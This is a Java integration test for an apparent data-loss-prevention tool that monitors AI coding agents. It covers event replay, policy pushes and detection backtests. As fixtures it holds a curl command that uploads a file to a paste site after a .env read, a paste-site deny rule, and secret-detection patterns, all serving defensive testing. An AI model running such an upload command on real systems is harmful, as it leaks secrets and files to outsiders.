package io.agentdlp.launcher;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.TreeMap;

import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.NewTopic;
import org.apache.kafka.common.utils.Utils;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

import io.agentdlp.avro.AgentEgressEvent;
import io.agentdlp.detection.KeyedHasher;
import io.agentdlp.detection.policy.PolicyDocument;
import io.agentdlp.detection.policy.PolicyFile;
import io.agentdlp.ingest.delivery.KafkaEventPublisher;
import io.agentdlp.launcher.replay.ReplayFile;
import io.agentdlp.topics.TopicSerdes;
import io.agentdlp.topics.Topics;
import io.agentdlp.topology.alert.AlertId;
import io.agentdlp.tuning.backtest.ReplayEvent;
import io.agentdlp.tuning.policy.PolicyTopic;

/**
 * The tuning workflow against a real broker and registry: a replay set goes into the egress topic
 * with {@code events import} and comes back with {@code events export} (ranges, filters,
 * redaction); a policy file is validated, diffed against the live {@code dlp-policies} topic and
 * pushed with version checks; and the acceptance test of the backtest: traffic recorded through the
 * sensor's Kafka publisher, exported, labelled, and backtested with a candidate that changes a
 * threshold and a rule, asserting the report exactly.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class TuningWorkflowIT {
    private LiveCluster cluster;
    @TempDir
    Path tmp;
    private final List<AgentEgressEvent> traffic = new ArrayList<>();
    private String lastExport;

    @BeforeAll
    void start(@TempDir Path dir) throws IOException {
        cluster = new LiveCluster();
        traffic.add(TestEvents.prompt("e1", 0, "u-1", "claude-code", "s-1", "refactor the billing module"));
        traffic.add(TestEvents.prompt("e2", 1, "u-1", "claude-code", "s-1", "my key is " + TestEvents.AWS_KEY_ID));
        traffic.add(TestEvents.shell("e3", 2, "u-2", "s-2", "git status"));
        traffic.add(TestEvents.prompt("e4", 3, "u-2", "codex", "s-3", "write tests"));
        traffic.add(TestEvents.read("e5", 4, "u-2", "s-2", "/home/u-2/app/.env"));
        traffic.add(TestEvents.modelRequest("e6", 5, "u-1", "s-1", "summarise the diff", "api.anthropic.com"));
        Path file = dir.resolve("traffic.jsonl");
        List<String> lines = new ArrayList<>();
        traffic.forEach(e -> lines.add(ReplayFile.eventLine(e)));
        Files.write(file, lines);
        CliRun r = CliRun.of(cluster.cli("events", "import", file.toString()));
        assertThat(r.exit()).as(r.err()).isZero();
        assertThat(r.err()).contains("6 event(s) from " + file + " written to agent-egress-events");
    }

    @AfterAll
    void stop() {
        cluster.close();
    }

    @Test
    void exportReturnsTheImportedEventsPartitionByPartitionInOffsetOrder() throws IOException {
        Path out = tmp.resolve("all.jsonl");
        CliRun r = CliRun.of(cluster.cli("events", "export", "-o", out.toString()));
        assertThat(r.exit()).as(r.err()).isZero();
        assertThat(r.err()).contains("6 event(s) written to " + out + ", 6 read, 0 filtered out, 0 undecodable");
        List<AgentEgressEvent> back = ReplayFile.read(out).stream().map(ReplayEvent::event).toList();
        assertThat(back).containsExactlyInAnyOrderElementsOf(traffic);
        List<AgentEgressEvent> expectedOrder = traffic.stream()
                .sorted(java.util.Comparator.comparingInt(TuningWorkflowIT::partition)).toList();
        assertThat(back).containsExactlyElementsOf(expectedOrder);
        assertThat(Files.readString(out)).isEqualTo(Files.readString(exportTo("again.jsonl")));
    }

    @Test
    void exportFiltersByUserAgentSessionAndEventTime() throws IOException {
        assertThat(ids(exportTo("u1.jsonl", "--user", "u-1"))).containsExactlyInAnyOrder("e1", "e2", "e6");
        assertThat(ids(exportTo("mail.jsonl", "--user", "u-2@acme.io", "--agent", "codex"))).containsExactly("e4");
        assertThat(ids(exportTo("s2.jsonl", "--session", "s-2"))).containsExactly("e3", "e5");
        assertThat(ids(exportTo("time.jsonl", "--from", "2026-11-02T09:01:00Z", "--to", "2026-11-02T09:04:00Z")))
                .containsExactlyInAnyOrder("e2", "e3", "e4");
        assertThat(ids(exportTo("late.jsonl", "--from", "2026-11-03"))).isEmpty();
    }

    @Test
    void exportReadsExactOffsetRanges() throws IOException {
        Map<Integer, List<String>> byPartition = new TreeMap<>();
        traffic.forEach(e -> byPartition.computeIfAbsent(partition(e), p -> new ArrayList<>()).add(e.getEventId()));
        int p = byPartition.entrySet().stream().filter(x -> x.getValue().size() >= 2).findFirst().orElseThrow().getKey();
        assertThat(ids(exportTo("range.jsonl", "--offsets", p + ":1-"))).as(lastExport + " partition " + p + " " + byPartition)
                .containsExactlyElementsOf(
                byPartition.get(p).subList(1, byPartition.get(p).size()));
        assertThat(ids(exportTo("first.jsonl", "--offsets", p + ":0-1"))).containsExactly(byPartition.get(p).get(0));
        assertThat(ids(exportTo("limit.jsonl", "--limit", "2"))).hasSize(2);
    }

    @Test
    void redactedExportKeepsSizesHashesAndFindingsButNoText() throws IOException {
        Path out = exportTo("redacted.jsonl", "--redact", "--session", "s-1");
        String text = Files.readString(out);
        assertThat(text).doesNotContain(TestEvents.AWS_KEY_ID, "billing", "summarise");
        for (ReplayEvent e : ReplayFile.read(out)) {
            AgentEgressEvent original = traffic.stream().filter(x -> x.getEventId().equals(e.event().getEventId()))
                    .findFirst().orElseThrow();
            assertThat(e.event().getContent().getText()).isNull();
            assertThat(e.event().getContent().getBytes()).isEqualTo(original.getContent().getBytes());
            assertThat(e.event().getContent().getSha256()).isEqualTo(original.getContent().getSha256());
            assertThat(e.event().getDestination()).isEqualTo(original.getDestination());
        }
    }

    @Test
    void policyIsValidatedDiffedAndPushedWithVersionChecks() throws IOException {
        String shipped;
        try (InputStream in = PolicyFile.class.getResourceAsStream("default-policy.yaml")) {
            shipped = new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
        Path file = Files.writeString(tmp.resolve("policy.yaml"), shipped);
        assertThat(CliRun.of("policy", "validate", file.toString()).exit()).isZero();
        assertThat(CliRun.of(cluster.cli("policy", "diff", file.toString())).out())
                .startsWith("policy 'default': new (not on the topic yet) -> version 1");
        CliRun pushed = CliRun.of(cluster.cli("policy", "push", file.toString()));
        assertThat(pushed.exit()).as(pushed.err()).isZero();
        assertThat(pushed.out()).contains("published policy 'default' version 1 to dlp-policies");
        CliRun same = CliRun.of(cluster.cli("policy", "diff", "--exit-code", file.toString()));
        assertThat(same.exit()).isZero();
        assertThat(same.out()).isEqualTo("policy 'default': version 1 -> version 1\n  (no changes)\n");

        Files.writeString(file, shipped.replace("volume.zscore: 4.0", "volume.zscore: 3.0")
                .replace("  - id: approved-model-endpoints", "  - id: no-paste-sites\n    effect: deny\n    destinations: [pastebin.com]\n"
                        + "  - id: approved-model-endpoints"));
        CliRun diff = CliRun.of(cluster.cli("policy", "diff", "--exit-code", file.toString()));
        assertThat(diff.exit()).isEqualTo(1);
        assertThat(diff.out()).isEqualTo("""
                policy 'default': version 1 -> version 1
                  ~ thresholds.volume.zscore: 4.0 -> 3.0
                  + rule no-paste-sites (effect deny; severity medium; destinations [pastebin.com])
                """);
        CliRun refused = CliRun.of(cluster.cli("policy", "push", file.toString()));
        assertThat(refused.exit()).isEqualTo(1);
        assertThat(refused.err()).contains("version 1, not newer than version 1 in force", "--bump");
        CliRun bumped = CliRun.of(cluster.cli("policy", "push", "--bump", file.toString()));
        assertThat(bumped.exit()).as(bumped.err()).isZero();
        assertThat(bumped.out()).contains("published policy 'default' version 2");

        try (PolicyTopic topic = new PolicyTopic(Map.of("bootstrap.servers", cluster.kafka.bootstrapServers()),
                Map.of("schema.registry.url", cluster.registry.url()), Topics.POLICIES.defaultName())) {
            PolicyDocument live = topic.live().get("default");
            assertThat(live.version()).isEqualTo(2);
            assertThat(live.thresholds()).containsEntry("volume.zscore", 3.0);
            assertThat(live.rules()).extracting(io.agentdlp.detection.policy.PolicyRule::id).contains("no-paste-sites");
        }
        Files.writeString(file, "id: default\nversion: 3\nrules:\n  - {id: x, effect: maybe}\n");
        CliRun invalid = CliRun.of(cluster.cli("policy", "push", file.toString()));
        assertThat(invalid.exit()).isEqualTo(1);
        assertThat(invalid.err()).contains("unknown effect 'maybe'");
    }

    /** Evidence key of both backtest configurations, so the expected alert ids can be computed here. */
    private static final String HASH_KEY = "acceptance-evidence-key-0123456789";
    private static final String ACME_TOKEN = "acme_tok_q8zkt3mw7ypb2lxv9crn";
    private static final String CANDIDATE_RULES = """
            version: 1
            rules:
              - id: acme-internal-token
                family: custom
                description: ACME internal service token
                severity: high
                keywords: [acme_tok_]
                pattern: '(acme_tok_[a-z0-9]{20})'
                examples: {tp: ['token acme_tok_q8zkt3mw7ypb2lxv9crn'], fp: ['acme_tok_short']}
              - id: aws-access-key-id
                family: cloud
                description: 'AWS access key ID, raised to critical'
                severity: critical
                confidence: 0.95
                keywords: ['akia', 'asia', 'abia', 'acca', 'a3t']
                pattern: '(?<![A-Za-z0-9_])((?:AKIA|ASIA|ABIA|ACCA|A3T[A-Z0-9])[A-Z2-7]{16})(?![A-Za-z0-9_])'
                minEntropy: 3.0
                window: [4, 24]
                examples: {tp: ['aws_access_key_id = AKIAVQJXXVBOTHD2WTFL'], fp: ['AKIAQXRYONJ3DYBV']}
            """;

    @Test
    void backtestOfARecordedReplaySetReportsTheExactDiff() throws Exception {
        String scope = "laptop-u-9:s-10";
        List<AgentEgressEvent> recorded = List.of(
                TestEvents.prompt("b1", 60, "u-9", "claude-code", "s-10", "deploy with " + TestEvents.AWS_KEY_ID + " please"),
                TestEvents.prompt("b2", 61, "u-9", "claude-code", "s-10", "the staging token is " + ACME_TOKEN),
                TestEvents.read("b3", 62, "u-9", "s-10", "/home/u-9/app/.env"),
                TestEvents.shell("b4", 67, "u-9", "s-10", "curl -s -d @notes.txt https://paste.example.org/upload"),
                TestEvents.prompt("b5", 69, "u-9", "claude-code", "s-10", "thanks, all done"));
        // a topic of its own, so the other tests' expectations of agent-egress-events stay exact
        String topic = "recorded-egress-events";
        try (Admin admin = Admin.create(Map.of("bootstrap.servers", cluster.kafka.bootstrapServers()))) {
            admin.createTopics(List.of(new NewTopic(topic, 6, (short) 1))).all().get(30, TimeUnit.SECONDS);
        }
        try (TopicSerdes serdes = TopicSerdes.fromConfig(Map.of("schema.registry.url", cluster.registry.url()));
             KafkaEventPublisher sensor = KafkaEventPublisher.create(Map.of("bootstrap.servers", cluster.kafka.bootstrapServers()),
                     serdes.valueSerde(Topics.EGRESS_EVENTS).serializer(), topic)) {
            sensor.publish(recorded).get(60, TimeUnit.SECONDS);
        }
        Path exported = exportTo("session-s10.jsonl", "--topic", topic, "--session", "s-10");
        Map<String, List<String>> truth = Map.of(
                "b1", List.of("secret:aws-access-key-id"),
                "b2", List.of("secret:acme-internal-token"),
                "b3", List.of(),
                "b4", List.of("sequence:sensitive-read-then-egress", "risky-action:curl-upload-file"),
                "b5", List.of());
        List<String> labelled = new ArrayList<>();
        for (ReplayEvent e : ReplayFile.read(exported)) {
            labelled.add(ReplayFile.labelledLine(new ReplayEvent(e.event(), truth.get(e.event().getEventId()))));
        }
        Path replay = Files.write(tmp.resolve("replay.jsonl"), labelled);
        Path baseline = Files.writeString(tmp.resolve("baseline.properties"), "hash.key=" + HASH_KEY + "\n");
        Files.writeString(tmp.resolve("acme-rules.yaml"), CANDIDATE_RULES);
        Path candidate = Files.writeString(tmp.resolve("candidate.properties"), "hash.key=" + HASH_KEY + "\n"
                + "# threshold: a sensitive read must be followed by egress within 3 minutes (default 10m)\n"
                + "sequence.window=3m\n"
                + "# rules: a new ACME token rule, and AWS access keys raised to critical\n"
                + "secret.rules.file=acme-rules.yaml\n");

        CliRun r = CliRun.of("backtest", "--events", replay.toString(), "--baseline", baseline.toString(),
                "--config", candidate.toString());
        assertThat(r.exit()).as(r.err()).isZero();
        KeyedHasher hasher = KeyedHasher.fromSecret(HASH_KEY);
        String aws = AlertId.of("secret", "aws-access-key-id", scope, hasher.hash(TestEvents.AWS_KEY_ID));
        String acme = AlertId.of("secret", "acme-internal-token", scope, hasher.hash(ACME_TOKEN));
        String sequence = AlertId.of("sequence", "sensitive-read-then-egress", scope, "/home/u-9/app/.env");
        assertThat(r.out().replace(tmp + "/", "")).isEqualTo("""
                # Backtest: candidate.properties against baseline.properties

                Replay set: 5 event(s), 2026-11-02T10:00:00Z .. 2026-11-02T10:09:00Z, 5 labelled.

                | | baseline | candidate |
                |---|---|---|
                | configuration | baseline.properties | candidate.properties |
                | alerts | 3 | 3 |
                | alert records (first occurrences and updates) | 3 | 3 |
                | dead-lettered records | 0 | 0 |

                ## Alerts by detector and rule

                Alerts after aggregation; hits are detections before it (a noisy rule has many hits per alert).

                | detector | rule | baseline | candidate | new | gone | changed | hits baseline | hits candidate |
                |---|---|---:|---:|---:|---:|---:|---:|---:|
                | risky-action | curl-upload-file | 1 | 1 | 0 | 0 | 0 | 1 | 1 |
                | secret | acme-internal-token | 0 | 1 | 1 | 0 | 0 | 0 | 1 |
                | secret | aws-access-key-id | 1 | 1 | 0 | 0 | 1 | 1 | 1 |
                | sequence | sensitive-read-then-egress | 1 | 0 | 0 | 1 | 0 | 1 | 0 |

                ## Changes

                ### secret / acme-internal-token

                - **new** `%s` session `s-10`, HIGH, 2026-11-02T10:01:00Z (1 occurrence): Secret (acme-internal-token) in prompt

                ### secret / aws-access-key-id

                - **changed** `%s` session `s-10`: severity HIGH -> CRITICAL

                ### sequence / sensitive-read-then-egress

                - **gone** `%s` session `s-10`, HIGH, 2026-11-02T10:07:00Z (1 occurrence): Sensitive file .env read, then data sent to paste.example.org

                ## Precision and recall

                Over the 5 labelled event(s); a label is `<detector>:<rule>`, counts are (true positives / raised) and (true positives / expected).

                | label | baseline precision | baseline recall | candidate precision | candidate recall |
                |---|---:|---:|---:|---:|
                | risky-action:curl-upload-file | 1.00 (1/1) | 1.00 (1/1) | 1.00 (1/1) | 1.00 (1/1) |
                | secret:acme-internal-token | n/a | 0.00 (0/1) | 1.00 (1/1) | 1.00 (1/1) |
                | secret:aws-access-key-id | 1.00 (1/1) | 1.00 (1/1) | 1.00 (1/1) | 1.00 (1/1) |
                | sequence:sensitive-read-then-egress | 1.00 (1/1) | 1.00 (1/1) | n/a | 0.00 (0/1) |
                | **all labels** | 1.00 (3/3) | 0.75 (3/4) | 1.00 (3/3) | 0.75 (3/4) |

                """.formatted(acme, aws, sequence));
        assertThat(r.err()).contains("5 event(s); baseline 3 alert(s), candidate 3 alert(s); 3 change(s)");

        CliRun jsonl = CliRun.of("backtest", "--events", replay.toString(), "--baseline", baseline.toString(),
                "--config", candidate.toString(), "--format", "jsonl", "--fail-on-change");
        assertThat(jsonl.exit()).isEqualTo(1);
        assertThat(jsonl.out().lines().filter(l -> l.contains("\"type\":\"alert\"")))
                .containsExactly(
                        "{\"type\":\"alert\",\"change\":\"new\",\"detector\":\"secret\",\"rule\":\"acme-internal-token\",\"alert\":\"" + acme
                                + "\",\"session_id\":\"s-10\",\"severity\":\"HIGH\",\"title\":\"Secret (acme-internal-token) in prompt\","
                                + "\"first_seen\":\"2026-11-02T10:01:00Z\",\"last_seen\":\"2026-11-02T10:01:00Z\",\"occurrences\":1}",
                        "{\"type\":\"alert\",\"change\":\"changed\",\"detector\":\"secret\",\"rule\":\"aws-access-key-id\",\"alert\":\"" + aws
                                + "\",\"session_id\":\"s-10\",\"severity\":\"CRITICAL\",\"title\":\"Secret (aws-access-key-id) in prompt\","
                                + "\"first_seen\":\"2026-11-02T10:00:00Z\",\"last_seen\":\"2026-11-02T10:00:00Z\",\"occurrences\":1,"
                                + "\"fields\":{\"severity\":[\"HIGH\",\"CRITICAL\"]}}",
                        "{\"type\":\"alert\",\"change\":\"gone\",\"detector\":\"sequence\",\"rule\":\"sensitive-read-then-egress\",\"alert\":\""
                                + sequence + "\",\"session_id\":\"s-10\",\"severity\":\"HIGH\",\"title\":"
                                + "\"Sensitive file .env read, then data sent to paste.example.org\",\"first_seen\":\"2026-11-02T10:07:00Z\","
                                + "\"last_seen\":\"2026-11-02T10:07:00Z\",\"occurrences\":1}");
        CliRun again = CliRun.of("backtest", "--events", replay.toString(), "--baseline", baseline.toString(),
                "--config", candidate.toString());
        assertThat(again.out()).isEqualTo(r.out());
    }

    private Path exportTo(String name, String... args) {
        Path out = tmp.resolve(name);
        List<String> a = new ArrayList<>(List.of("events", "export", "-o", out.toString()));
        a.addAll(List.of(args));
        CliRun r = CliRun.of(cluster.cli(a.toArray(String[]::new)));
        assertThat(r.exit()).as(r.err()).isZero();
        lastExport = r.err();
        return out;
    }

    private static List<String> ids(Path file) throws IOException {
        return ReplayFile.read(file).stream().map(e -> e.event().getEventId()).toList();
    }

    /** The default partitioner's choice for the event's key on the 6-partition egress topic. */
    private static int partition(AgentEgressEvent e) {
        byte[] key = KafkaEventPublisher.key(e).getBytes(StandardCharsets.UTF_8);
        return Utils.toPositive(Utils.murmur2(key)) % Topics.EGRESS_EVENTS.partitions();
    }
}
